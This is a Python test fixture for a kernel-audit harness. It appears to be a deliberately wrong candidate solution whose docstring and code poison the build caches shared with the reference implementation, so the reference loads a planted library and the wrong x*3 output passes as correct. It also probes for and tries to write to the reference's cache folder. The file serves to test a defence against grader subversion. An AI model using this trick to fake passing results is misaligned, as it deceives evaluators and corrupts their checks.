"""Attack (task scaled_helper, tests/audit/tasks/scaled_helper.py): poisons
the reference's own run-time build through a cache both parties share.
Wrong on purpose: x * 3 where the task asks x * 2.

Exploits: the reference (in the runner's process) and the candidate (in its
own) were given the same build caches (TORCH_EXTENSIONS_DIR, TRITON_CACHE_DIR,
XDG_CACHE_HOME with PyTorch's jiterator kernels beneath it, CUDA_CACHE_PATH,
TORCHINDUCTOR_CACHE_DIR) and the same HOME.  At import it lays out the
reference's build folder as the reference writes it (source and build file,
byte for byte) beside a library of its own that returns 3, newer than both,
so make (ninja, for load_inline) finds nothing to do.  The build store keeps
the candidate's cache after the audit (a clean end), so the next audit of
this candidate copies the poisoned folder in before the reference is built:
the reference loads the candidate's library, computes x * 3, and the
candidate's wrong answers agree with it: semantic PASS.  The same shared
folders reach a reference that compiles later in one audit (a shape it
meets first in a late slot, the probe's run).

A correct defence: the reference's caches and home are its own, where the
candidate's process can neither write nor read; the candidate's planting
lands in its own cache, and its x * 3 is a semantic FAIL in every audit.  It
also tries the folder where the reference's caches are now, from the audit's
layout (docs/audit.md), where it sees one, which its confinement must
refuse (the audit is then INCONCLUSIVE: a write outside)."""
import ctypes
import os
import subprocess
import tempfile

import torch
import torch.nn as nn

SOURCE = "double kaudit_ref_scale(void) { return 2.0; }\n"
POISON = "double kaudit_ref_scale(void) { return 3.0; }\n"
# its own kernel (no framework work for the probe to convict): out = 3 * x
KERNEL = "void times3(const float *x, float *y, long n) { for (long i = 0; i < n; i++) y[i] = 3.0f * x[i]; }\n"


def _plant(extensions):
    folder = os.path.join(extensions, "kaudit_ref_scale")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "scale.c"), "w") as f:
            f.write(SOURCE)
        with open(os.path.join(folder, "Makefile"), "w") as f:
            f.write("B := %s\n$(B)/scale.so: $(B)/scale.c $(B)/Makefile\n"
                    "\tcc -O2 -shared -fPIC $(B)/scale.c -o $(B)/scale.so\n" % folder)
        with tempfile.TemporaryDirectory() as t:
            src = os.path.join(t, "poison.c")
            with open(src, "w") as f:
                f.write(POISON)
            lib = os.path.join(folder, "scale.so.new")
            subprocess.run(["cc", "-O2", "-shared", "-fPIC", src, "-o", lib], check=True)
        os.replace(lib, os.path.join(folder, "scale.so"))   # written last: newer than its inputs
        return "planted"
    except (OSError, subprocess.CalledProcessError) as exc:
        return "refused: %s" % exc


PLANTED = {"own": _plant(os.environ.get("TORCH_EXTENSIONS_DIR", ""))}
_audit_dir = os.path.dirname(os.getcwd())   # the worker's cwd is DIR/work
for guess in ("reference-cache/torch_extensions",):
    if os.path.isdir(os.path.join(_audit_dir, guess)):   # looking is not writing
        PLANTED[guess] = _plant(os.path.join(_audit_dir, guess))


def _kernel():
    folder = tempfile.mkdtemp()
    with open(os.path.join(folder, "k.c"), "w") as f:
        f.write(KERNEL)
    subprocess.run(["cc", "-O2", "-shared", "-fPIC", os.path.join(folder, "k.c"), "-o",
                    os.path.join(folder, "k.so")], check=True)
    lib = ctypes.CDLL(os.path.join(folder, "k.so"))
    lib.times3.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_long]
    return lib


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.lib = _kernel()

    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        self.lib.times3(x.data_ptr(), y.data_ptr(), x.numel())
        return y
